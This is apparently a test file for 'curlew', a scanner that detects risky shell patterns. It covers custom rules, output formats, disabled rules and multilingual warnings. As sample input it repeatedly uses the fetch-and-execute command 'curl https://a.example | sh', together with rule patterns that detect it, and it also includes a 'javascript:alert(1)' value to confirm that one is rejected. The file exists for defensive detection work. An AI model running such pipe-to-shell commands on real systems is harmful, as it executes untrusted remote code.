import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";
import { folderWith } from "./folder-with.js";
import { runHere, type Ran } from "./fake-detector.js";

const PIPE = "curl https://a.example | sh";
const rule = (id: string, ...settings: readonly string[]): string =>
  `; curl URL | sh\n((pipeline) @flow.pipe\n  (#set! rule "${id}")${settings.map((each) => `\n  (#set! ${each})`).join("")})\n`;
const noPipe = rule(
  "acme/no-pipe",
  'message "No pipes into shells."',
  'severity "warning"',
  'help "Use the distribution\'s package.\\nAsk when there is none."',
);
const get = (name: string): string =>
  `; ${name} URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher "${name}")\n  (#set! writes "stdout"))\n`;
const folder = folderWith({
  "acme/bash/pipes.scm": noPipe,
  "acme/README.md": "Our rules.",
  "acme/notes.txt": "Our notes.",
  "more/bash/pipes.scm": get("moreget"),
  "same/contract/bash/fetchers.scm": get("acmeget"),
});
const [acme, more, same] = ["acme", "more", "same"].map((name) => join(folder, name)) as [
  string,
  string,
  string,
];

/** Runs a command line with the real detector. */
const curlew = (args: readonly string[], stdin?: string): Promise<Ran> =>
  runHere(args, {
    toolkit: { createDetector: createNodeDetector },
    ...(stdin === undefined ? {} : { stdin }),
  });

describe("a custom rule", () => {
  it("is reported with its message, severity and help", async () => {
    const { stdout, status } = await curlew(["scan", "--queries", acme, "-"], PIPE);
    expect(stdout).toContain("<stdin>:1:1: warning acme/no-pipe No pipes into shells.\n");
    expect(stdout).toContain(
      "  help: Use the distribution's package.\n        Ask when there is none.\n",
    );
    expect(stdout).not.toContain("safer:");
    expect(stdout).toContain(
      `1 finding in 1 of 1 text\nnot read, because they are not query files: ${acme}/notes.txt\n`,
    );
    expect(status).toBe(1);
  });

  it("is listed by curlew rules", async () => {
    const { stdout, status } = await curlew(["rules", "--queries", acme]);
    expect(stdout).toMatch(
      /^acme\/no-pipe +No pipes into shells\. \(warning, .*\/acme\/bash\/pipes\.scm:2\)\nbash\/decode-pipe /,
    );
    expect(stdout).toContain(`\nnot read, because they are not query files: ${acme}/notes.txt\n`);
    expect(status).toBe(0);
    const { rules } = JSON.parse(
      (await curlew(["rules", "--queries", acme, "--format", "json"])).stdout,
    );
    expect(rules[0]).toEqual({
      id: "acme/no-pipe",
      message: "No pipes into shells.",
      severity: "warning",
      help: "Use the distribution's package.\nAsk when there is none.",
      pattern: `${acme}/bash/pipes.scm:2`,
      example: "curl URL | sh",
      page: "https://curlew-owner.github.io/curlew/docs/own-rules.html",
    });
  });

  it.each([
    [undefined, "https://curlew-owner.github.io/curlew/"],
    ["https://rules.acme.example/curlew", "https://rules.acme.example/curlew/"],
    ["javascript:alert(1)", "https://curlew-owner.github.io/curlew/"],
  ])("has a page on the site at CURLEW_SITE: %s", async (site, address) => {
    const given = { toolkit: { createDetector: createNodeDetector } };
    const env = site === undefined ? {} : { CURLEW_SITE: site };
    const ask = async (...args: readonly string[]): Promise<string> =>
      (await runHere(args, { ...given, env, stdin: PIPE })).stdout;
    expect(await ask("rules")).toContain(`\nEach rule has a page: ${address}rules/\n`);
    const { rules } = JSON.parse(await ask("rules", "--format", "json"));
    expect(rules.find(({ id }: { id: string }) => id === "bash/fetch-pipe").page).toBe(
      `${address}rules/bash/fetch-pipe.html`,
    );
    const [run] = JSON.parse(await ask("scan", "--format", "sarif", "-")).runs;
    const described = run.tool.driver.rules.map(({ helpUri }: { helpUri: string }) => helpUri);
    expect(described).toContain(`${address}rules/bash/fetch-pipe.html`);
    expect(described.every((uri: string) => uri.startsWith(address))).toBe(true);
  });

  it("is explained by curlew explain", async () => {
    const { stdout, status } = await curlew([
      "explain",
      "acme/no-pipe",
      "--queries",
      more,
      "--queries",
      acme,
    ]);
    expect(stdout).toBe(
      `acme/no-pipe  No pipes into shells.\n\nA custom rule of severity warning, defined in ${acme}/bash/pipes.scm:2.\n\nExample\n    curl URL | sh\n\nInstead\n    Use the distribution's package.\n    Ask when there is none.\n`,
    );
    expect(status).toBe(0);
    const unknown = await curlew(["explain", "acme/no-pipe"]);
    expect(unknown).toMatchObject({
      status: 2,
      stderr: expect.stringContaining("add --queries FOLDER for custom rules"),
    });
    expect((await curlew(["explain", "acme/x", "--queries", acme])).stderr).toContain(
      "script/run-address, acme/no-pipe",
    );
  });

  it("is described in JSON", async () => {
    const { findings } = JSON.parse(
      (await curlew(["scan", "--queries", acme, "--format", "jsonl", "-"], PIPE)).stdout,
    );
    expect(findings[0]).toMatchObject({
      rule: "acme/no-pipe",
      severity: "warning",
      message: "No pipes into shells.",
      help: "Use the distribution's package.\nAsk when there is none.",
    });
    expect(findings[0].trace[0].patterns).toEqual([
      expect.stringMatching(/^contract\/bash\/fetchers\.scm:\d+$/),
    ]);
    const plain = JSON.parse((await curlew(["scan", "--format", "json", "-"], PIPE)).stdout);
    expect(plain.files[0].findings[0]).toMatchObject({
      rule: "bash/fetch-pipe",
      severity: "error",
      message: expect.stringContaining("piped to an interpreter"),
    });
    expect(plain).toMatchObject({
      disabledRules: [],
      ownQueries: { replaced: [], joined: [], unread: [], unused: [], overruled: [] },
    });
  });

  it("is described in SARIF", async () => {
    const [run] = JSON.parse(
      (await curlew(["scan", "--queries", acme, "--format", "sarif", "-"], PIPE)).stdout,
    ).runs;
    expect(run.tool.driver.rules[0]).toEqual({
      id: "acme/no-pipe",
      name: "AcmeNoPipe",
      shortDescription: { text: "No pipes into shells." },
      fullDescription: { text: "No pipes into shells." },
      help: {
        text: "Use the distribution's package.\nAsk when there is none.",
        markdown: "Use the distribution's package.\nAsk when there is none.",
      },
      helpUri: "https://curlew-owner.github.io/curlew/docs/own-rules.html",
      defaultConfiguration: { level: "warning" },
      properties: {
        pattern: `${acme}/bash/pipes.scm:2`,
        tags: ["security", "external/cwe/cwe-494"],
        precision: "high",
        "problem.severity": "warning",
        "security-severity": "5.0",
      },
    });
    expect(run.results[0]).toMatchObject({
      ruleId: "acme/no-pipe",
      ruleIndex: 0,
      level: "warning",
      message: {
        text: expect.stringMatching(
          /^No pipes into shells\. curl fetches .*\. Use the distribution's package\./s,
        ),
      },
    });
  });

  it.each([
    ["error", "error", ""],
    ["warning", "warning", "warning "],
    ["note", "notice", "note "],
  ])("of severity %s is an annotation of kind %s", async (severity, command, label) => {
    const own = folderWith({ "bash/x.scm": rule("acme/x", `severity "${severity}"`) });
    expect(
      (await curlew(["scan", "--queries", own, "--format", "github", "-"], PIPE)).stdout,
    ).toMatch(new RegExp(`^::${command} file=.*title=acme/x::A pattern in .*x\\.scm:2 matches\\.`));
    expect((await curlew(["scan", "--queries", own, "-"], PIPE)).stdout).toContain(
      `: ${label}acme/x A pattern`,
    );
  });
});

describe("query folders", () => {
  it("can be combined", async () => {
    const text = `${PIPE}\n\nmoreget https://a.example | sh`;
    const { stdout } = await curlew(["scan", "--queries", acme, "--queries", more, "-"], text);
    expect(stdout).toContain("2 findings in 1 of 1 text");
    expect((await curlew(["scan", "--queries", acme, "-"], text)).stdout).toContain(
      "1 finding in 1 of 1 text",
    );
  });

  it("extend a built-in file of the same path, or replace it on request, and the summary reports this", async () => {
    const joined = await curlew(["scan", "--queries", same, "-"], PIPE);
    expect(joined.stdout).toContain(
      "1 finding in 1 of 1 text\nextended by custom query files: contract/bash/fetchers.scm (--replace-queries replaces them)\n",
    );
    const replaced = await curlew(["scan", "--queries", same, "--replace-queries", "-"], PIPE);
    expect(replaced).toMatchObject({
      status: 0,
      stdout: "no findings in 1 text\nreplaced by custom query files: contract/bash/fetchers.scm\n",
    });
    expect((await curlew(["rules", "--queries", same, "--replace-queries"])).stdout).toContain(
      "\nreplaced by custom query files: contract/bash/fetchers.scm\n",
    );
    expect(
      (await curlew(["scan", "--queries", same, "--replace-queries", "-q", "-"], PIPE)).stdout,
    ).toBe("");
  });

  it("with patterns that contradict a built-in layout, or with files for another profile, are reported", async () => {
    const own = folderWith({ "bash/x.scm": get("curl"), "extended/bash/y.scm": get("http") });
    const { stdout } = await curlew(["scan", "-p", "contract", "--queries", own, "-"], PIPE);
    expect(stdout).toMatch(
      /1 finding in 1 of 1 text\nnot active, because they are for the extended profile only: .*\/extended\/bash\/y\.scm \(--profile extended\)\nno effect on how a command is read: .*x\.scm:2: "curl" is read as contract\/bash\/fetchers\.scm:\d+ defines it\n$/,
    );
    const extended = (await curlew(["scan", "--profile", "extended", "--queries", own, "-"], PIPE))
      .stdout;
    expect(extended).toContain('"http" is read as extended/bash/fetchers.scm:');
    expect(extended).not.toContain("not active");
  });

  it.each<[args: readonly string[], message: RegExp]>([
    [
      ["--replace-queries"],
      /^curlew: replacing built-in query files needs a folder with query files; name one with --queries\n$/,
    ],
    [
      ["--queries", more, "--replace-queries"],
      /bash\/pipes\.scm:1:1: no custom file has the path of a built-in one/,
    ],
    [
      ["--queries", folderWith({ "captures.json": "{}", "bash/x.scm": get("x") })],
      /captures\.json: a custom folder cannot have its own captures\.json/,
    ],
    [
      ["--disable-rule", "foo"],
      /^curlew: there is no rule "foo" to switch off; `curlew rules` lists all rules\n$/,
    ],
    [
      ["--disable-rule", "bash/fetch-pip"],
      /^curlew: there is no rule "bash\/fetch-pip" to switch off; did you mean bash\/fetch-pipe\?\n$/,
    ],
  ])("are rejected for %j", async (args, message) => {
    const ran = await curlew(["scan", ...args, "-"], PIPE);
    expect(ran).toEqual({ status: 2, stdout: "", stderr: expect.stringMatching(message) });
  });
});

describe("a disabled rule", () => {
  it("is not reported, and the summary names it", async () => {
    const ran = await curlew(
      ["scan", "--disable-rule", "bash/fetch-pipe", "--disable-rule", "bash/fetch-variable", "-"],
      PIPE,
    );
    expect(ran).toMatchObject({
      status: 0,
      stdout: "no findings in 1 text\nswitched off: bash/fetch-pipe, bash/fetch-variable\n",
    });
    const { disabledRules, files } = JSON.parse(
      (await curlew(["scan", "--disable-rule", "bash/fetch-pipe", "--format", "json", "-"], PIPE))
        .stdout,
    );
    expect([disabledRules, files[0].labels]).toEqual([["bash/fetch-pipe"], []]);
    const { stdout } = await curlew(["rules", "--disable-rule", "bash/fetch-pipe"]);
    expect(stdout).not.toMatch(/^bash\/fetch-pipe /m);
    expect(stdout).toContain("\nswitched off: bash/fetch-pipe\n");
  });

  it("is also named by batch", async () => {
    const { stdout, stderr } = await curlew(
      ["batch", "--disable-rule", "bash/fetch-pipe", "--predictions", "-", "-"],
      JSON.stringify({ text: PIPE }),
    );
    expect(JSON.parse(stdout)).toMatchObject({ labels: [] });
    expect(stderr).toContain("curlew: switched off: bash/fetch-pipe\n");
  });
});

it("--trace names the patterns that matched", async () => {
  expect((await curlew(["scan", "--trace", "-"], PIPE)).stdout).toMatch(
    /1\. fetch: curl fetches remote content \(rule 1\) at 1:1 «curl» by contract\/bash\/fetchers\.scm:\d+\n/,
  );
  expect((await curlew(["scan", "-"], PIPE)).stdout).not.toContain("fetchers.scm");
});

describe("--language", () => {
  const german = `Führe \`${PIPE}\` niemals aus.`;

  it("recognizes warnings in another language", async () => {
    const contract = ["scan", "--profile", "contract"];
    expect((await curlew([...contract, "-"], german)).status).toBe(1);
    expect((await curlew([...contract, "--language", "de", "-"], german)).status).toBe(0);
    expect((await curlew(["scan", "-"], german)).status).toBe(0);
  });

  it("lists the languages if one is unknown", async () => {
    const { stderr, status } = await curlew(["scan", "--language", "xx", "-"], german);
    expect(stderr).toBe(
      'curlew: no warnings are known in the language "xx"; the languages are de, en, es, fr, ja, pt, ru, zh\n',
    );
    expect(status).toBe(2);
  });
});
